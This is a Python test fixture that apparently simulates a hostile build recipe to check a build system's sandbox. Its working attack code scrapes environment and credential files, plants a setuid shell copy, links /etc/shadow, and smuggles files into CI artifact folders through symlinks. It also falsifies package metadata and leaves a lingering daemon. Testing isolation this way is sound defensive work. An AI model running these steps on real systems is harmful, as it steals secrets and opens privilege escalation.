"""What a hostile recipe does: looks for secrets wherever it runs, and breaks what it can.

The recipe that runs this names `LOOT`, the folder that it keeps what it saw in, and `TARGETS`, where secrets are.
"""

import glob
import json
import os
import shutil
import socket
import stat
import subprocess
import time


def seen():
    """All that can be read which may hold a secret, as one text."""
    found = [f"{name}={value}" for name, value in os.environ.items()]
    files = glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline")
    for target in TARGETS:  # noqa: F821
        files += [target, *glob.glob(target + "/**", recursive=True), *glob.glob(target + "/**/.*", recursive=True)]
        files += glob.glob(target + "/.git/*")
    for file in files:
        try:
            with open(file, "rb") as opened:
                found.append(f"{file}: {opened.read(1 << 20).decode('utf-8', 'replace')}")
        except OSError:
            pass
    for agent in [one for target in TARGETS for one in glob.glob(target + "/**/S.gpg-agent*", recursive=True)]:  # noqa: F821
        try:
            with socket.socket(socket.AF_UNIX) as connected:
                connected.connect(agent)
                found.append("an agent answers: " + connected.recv(1000).decode())
        except OSError:
            pass
    return "\n".join(found)


def note(what, text=""):
    """Keep something where the test looks for it."""
    name = f"{what}.{os.getuid()}.{os.getpid()}.{time.time_ns()}"
    with open(os.path.join(LOOT, name), "w", encoding="utf-8", errors="replace") as file:  # noqa: F821
        file.write(text)


def attempt(what, action):
    """Note what works that should not."""
    try:
        action()
    except (OSError, subprocess.CalledProcessError) as error:
        note(f"refused-{what}", str(error))
    else:
        note(f"WORKED-{what}")


def overwrite(path):
    """Append to a file, or make one."""
    with open(path, "a", encoding="utf-8") as file:
        file.write("\n# changed\n")


def haunt():
    """Stay behind, and look again and again."""
    if os.fork() == 0:
        os.setsid()
        for stream in (0, 1, 2):
            os.dup2(os.open(os.devnull, os.O_RDWR), stream)
        for _ in range(200):
            note("ghost", seen())
            time.sleep(0.1)
        os._exit(0)


def attack(prefix, dependency):
    """Everything that a build might try."""
    note("build", seen())
    for target in TARGETS:  # noqa: F821
        attempt("write", lambda target=target: overwrite(os.path.join(target, "planted.py")))
        attempt("write", lambda target=target: overwrite(target + "/steps/package_phases.py"))
        attempt("move", lambda target=target: os.rename(target, target + ".moved"))
    attempt("dependency", lambda: overwrite(os.path.join(dependency, "lib", "content")))
    attempt("dependency", lambda: os.rename(dependency, dependency + ".moved"))
    os.makedirs(os.path.join(prefix, "bin"), exist_ok=True)
    shell = os.path.join(prefix, "bin", "root-shell")
    shutil.copy("/bin/sh", shell)
    os.chmod(shell, 0o6755)
    attempt("passwords", lambda: os.link("/etc/shadow", os.path.join(prefix, "shadow")))
    attempt("root", lambda: subprocess.run(["su", "-c", "true"], check=True, stdin=subprocess.DEVNULL, capture_output=True))
    for target in TARGETS:  # noqa: F821
        os.symlink(target, os.path.join(prefix, "link" + target.replace("/", "-")))
    for variable in ("SPACK_JOB_LOG_DIR", "SPACK_JOB_TEST_DIR", "SPACK_JOB_REPRO_DIR"):
        folder = os.path.join(os.environ.get("CI_PROJECT_DIR", ""), os.environ.get(variable, "nowhere"))
        for number, target in enumerate(TARGETS):  # noqa: F821
            attempt("note", lambda link=f"{folder}/stolen{number}", target=target: os.symlink(target, link))
    if "LIE" in os.environ:
        with open(os.path.join(prefix, ".spack", "spec.json"), "r+") as file:
            said = json.load(file)
            said["spec"]["nodes"][0]["version"] = "6.6.6"
            file.seek(0)
            json.dump(said, file)
            file.truncate()
    haunt()
